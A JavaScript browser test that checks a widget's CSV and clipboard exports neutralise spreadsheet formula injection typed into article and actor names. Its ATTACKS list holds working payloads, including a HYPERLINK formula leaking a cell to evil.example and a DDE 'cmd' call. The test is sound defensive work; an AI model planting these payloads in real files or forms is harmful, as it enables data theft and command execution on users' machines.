// Formula injection: article names and corrected actor names are typed by
// whoever made the session (or the share link), and every tabular export —
// the CSV file, and the HTML table and TSV put on the clipboard — must hand a
// spreadsheet text, never a formula.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { useBrowser, openWidget, loadExamples, download } from './harness.mjs';

const env = useBrowser();

// What a spreadsheet may skip before it looks for a formula's first character.
const INVISIBLE = /^[\s\u061C\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF]*/u;
const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/u;

/** Whether a cell's text would run as a formula. */
const live = (cell) => !cell.startsWith("'") && FORMULA.test(cell.replace(INVISIBLE, ''));

/** RFC 4180 fields, with whether each was quoted. */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let i = 0;
  while (i < text.length) {
    let value = '';
    let quoted = false;
    if (text[i] === '"') {
      quoted = true;
      i++;
      while (i < text.length) {
        if (text[i] === '"' && text[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else value += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') value += text[i++];
    }
    row.push({ value, quoted });
    if (text[i] === ',') i++;
    else if (text[i] === '\r') {
      i += 2;
      rows.push(row);
      row = [];
    }
  }
  if (row.length) rows.push(row);
  return rows;
}

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '\u200F@SUM(1+1);x',
  '-2+3;cmd',
];

test('CSV, clipboard TSV and the clipboard HTML table defuse formulas, and semicolons are quoted', async () => {
  const { context, page, errors } = await openWidget(env.browser, env.server.url, { permissions: ['clipboard-read', 'clipboard-write'] });
  await loadExamples(page);
  // Two article names and two corrected actor names carry the attacks.
  await page.locator('[data-role="article-name"]').nth(0).fill(ATTACKS[0]);
  await page.locator('[data-role="article-name"]').nth(1).fill(ATTACKS[2]);
  for (const [actor, name] of [['iran', ATTACKS[1]], ['us-pentagon', ATTACKS[3]]]) {
    await page.locator(`[data-actor="${actor}"]`).first().click();
    await page.fill('[data-role="rename"]', name);
    await page.press('[data-role="rename"]', 'Enter');
    await page.locator(`tr[data-actor-row="${actor}"] .actor-name`, { hasText: name.trim().slice(0, 6) }).waitFor();
  }
  await page.locator('thead th', { hasText: 'HYPERLINK' }).waitFor();

  const csv = (await download(page, '[data-role="export-csv"]')).body.toString('utf8').replace(/^\uFEFF/, '');
  const fields = parseCsv(csv).flat();
  for (const attack of ATTACKS) {
    assert.ok(fields.some((f) => f.value === `'${attack}`), `CSV holds ${JSON.stringify(attack)} defused`);
  }
  assert.deepEqual(fields.filter((f) => live(f.value)), [], 'no CSV field is a formula');
  assert.deepEqual(fields.filter((f) => f.value.includes(';') && !f.quoted), [], 'fields with ; are quoted');

  await page.click('[data-role="copy-table"]');
  await page.waitForFunction(() => document.querySelector('[data-role="notice"]')?.textContent.includes('نُسخ الجدول'));
  const clip = await page.evaluate(async () => {
    const [item] = await navigator.clipboard.read();
    const html = await (await item.getType('text/html')).text();
    const cells = [...new DOMParser().parseFromString(html, 'text/html').querySelectorAll('th, td')].map((c) => c.textContent);
    return { cells, text: await (await item.getType('text/plain')).text() };
  });
  const tsv = clip.text.split('\n').flatMap((l) => l.split('\t'));
  for (const [what, cells] of [['HTML', clip.cells], ['TSV', tsv]]) {
    assert.ok(cells.length > 20, `${what} has cells`);
    for (const attack of [ATTACKS[0], ATTACKS[1], ATTACKS[3]]) {
      assert.ok(cells.includes(`'${attack}`), `${what} holds ${JSON.stringify(attack)} defused`);
    }
    assert.deepEqual(cells.filter(live), [], `no ${what} cell is a formula`);
  }
  assert.deepEqual(errors, []);
  await context.close();
});
